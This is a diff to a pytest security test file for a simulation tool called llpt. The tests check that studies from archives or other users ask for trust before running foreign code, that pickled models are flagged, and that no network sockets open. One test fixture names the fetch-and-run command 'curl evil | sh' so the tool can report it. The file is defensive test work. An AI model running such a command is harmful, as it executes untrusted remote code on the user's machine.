@@ -1,5 +1,6 @@
 """A study is data: whatever it names, it runs no code that nobody installed and writes nothing outside."""
 
+import contextlib
 import io
 import os
 import subprocess
@@ -7,12 +8,15 @@ import sys
 import tarfile
 import zipfile
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 from pydantic import ValidationError
 
+from llpt.cli.trust import agree, foreign_code
 from llpt.errors import InputError, PluginError
 from llpt.plugins import code_place
+from llpt.study import make_plan, parse_study
 from llpt.study.archive import opened
 from llpt.study.nodes import Job
 
@@ -172,6 +176,79 @@ def test_an_archive_runs_foreign_code_only_where_somebody_trusts_it(tmp_path):
     assert (tmp_path / "again" / "study.toml").exists()
 
 
+@pytest.fixture
+def plan(monkeypatch, tmp_path):
+    """The plan of a study that names an engine which is no part of llpt, and a person's own place."""
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "own"))
+    return make_plan(parse_study(STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones")))
+
+
+def test_a_study_from_elsewhere_asks_once(tmp_path, plan):
+    archive = packed(tmp_path)
+    with pytest.raises(InputError, match="comes from elsewhere"):
+        agree(archive, plan, trust=False)
+    agree(archive, plan, trust=True)
+    agree(archive, plan, trust=False)
+    packed(tmp_path, **{"steps = 2": "steps = 3"})
+    with pytest.raises(InputError, match="comes from elsewhere"):
+        agree(archive, plan, trust=False)
+
+
+@pytest.mark.parametrize("answer", [True, False])
+def test_who_sits_at_a_terminal_is_asked(tmp_path, plan, monkeypatch, capsys, answer):
+    asked = []
+    monkeypatch.setattr("sys.stdin", SimpleNamespace(isatty=lambda: True))
+    monkeypatch.setattr("typer.confirm", lambda question, **_: asked.append(question) or answer)
+    with contextlib.nullcontext() if answer else pytest.raises(InputError, match="comes from elsewhere"):
+        agree(packed(tmp_path), plan, trust=False)
+    assert asked == ["The study comes from elsewhere. Run this code?"]
+    assert "runs code from" in capsys.readouterr().err.replace("\n", " ")
+
+
+@pytest.fixture
+def of_another(tmp_path, monkeypatch):
+    """A study file that belongs to another person."""
+    study = tmp_path / "study.toml"
+    study.write_text(STUDY)
+    monkeypatch.setattr("os.geteuid", lambda: study.stat().st_uid + 1)
+    return study
+
+
+def test_a_file_of_another_person_comes_from_elsewhere(plan, of_another):
+    with pytest.raises(InputError, match="comes from elsewhere"):
+        agree(of_another, plan, trust=False)
+    agree(of_another, plan, trust=True)
+    agree(of_another, plan, trust=False)
+
+
+def test_one_s_own_file_is_run_without_a_question(tmp_path, plan):
+    study = tmp_path / "study.toml"
+    study.write_text(STUDY)
+    agree(study, plan, trust=False)
+
+
+@pytest.mark.usefixtures("plan")
+def test_what_another_person_may_change_afterwards_is_asked_for_again(of_another):
+    """A program beside the study of another person may be another one the next time."""
+    text = STUDY.replace("ase:evil.Evil", "vasp") + '[reference.options]\ncommand = "./run"\n'
+    vasp = make_plan(parse_study(text))
+    agree(of_another, vasp, trust=True)
+    with pytest.raises(InputError, match="comes from elsewhere"):
+        agree(of_another, vasp, trust=False)
+
+
+def test_a_model_that_is_unpickled_is_named(tmp_path):
+    plan = make_plan(parse_study(STUDY.replace("ase:evil.Evil", "mace:model.pt")))
+    assert foreign_code(plan) == [
+        "Engine mace:model.pt unpickles a file, which can run any code: be sure where it comes from."
+    ]
+    archive = tmp_path / "study.zip"
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr("study/study.toml", STUDY)
+    with pytest.raises(InputError, match="unpickles"):
+        agree(archive, plan, trust=False)
+
+
 def test_an_archive_takes_no_file_from_outside_itself(tmp_path):
     (tmp_path / "secret.xyz").write_text("1\n\nH 0 0 0\n")
     archive = packed(tmp_path, **{'"atomic"': f'"{tmp_path / "secret.xyz"}"'})
@@ -187,10 +264,38 @@ def test_llpt_plan_names_the_programs_that_a_study_starts(tmp_path):
     assert "Engine vasp starts: curl evil | sh" in run(tmp_path, "plan", "study.toml").stdout
 
 
+LISTENING = """
+import threading, psutil
+from llpt.cli import main
+looks, found, over = [0], set(), threading.Event()
+
+def look():
+    own = psutil.Process()
+    while not over.is_set():
+        for process in (own, *own.children(recursive=True)):
+            try:
+                found.update(f"{process.name()} {each.laddr}" for each in process.net_connections("inet"))
+            except psutil.Error:
+                continue
+        looks[0] += 1
+        over.wait(0.01)
+
+watcher = threading.Thread(target=look)
+watcher.start()
+try:
+    main()
+finally:
+    over.set()
+    watcher.join()
+    print(looks[0], "looks:", sorted(found))
+"""
+
+
 def test_no_socket_listens_beyond_this_machine(tmp_path):
-    """A study on this machine opens none that others could reach; pw.x is spoken to over a unix socket."""
+    """A study on this machine opens none while it runs, nor do its processes; pw.x is spoken to over a unix socket."""
     (tmp_path / "study.toml").write_text(STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones"))
-    program = "import psutil, llpt.cli.console as console; from llpt.cli import main\n"
-    program += "import atexit; atexit.register(lambda: print([c for c in psutil.Process().net_connections('inet')]))\n"
-    done = run(tmp_path, "run", "study.toml", python=("-c", program + "main()"))
-    assert done.stdout.strip().endswith("[]"), done.stdout
+    done = run(tmp_path, "run", "study.toml", python=("-c", LISTENING))
+    last = done.stdout.strip().splitlines()[-1]
+    assert last.endswith("looks: []"), done.stdout
+    assert int(last.split()[0]) > 20
+    assert list((tmp_path / "study" / "jobs").glob("*.outcome.json"))
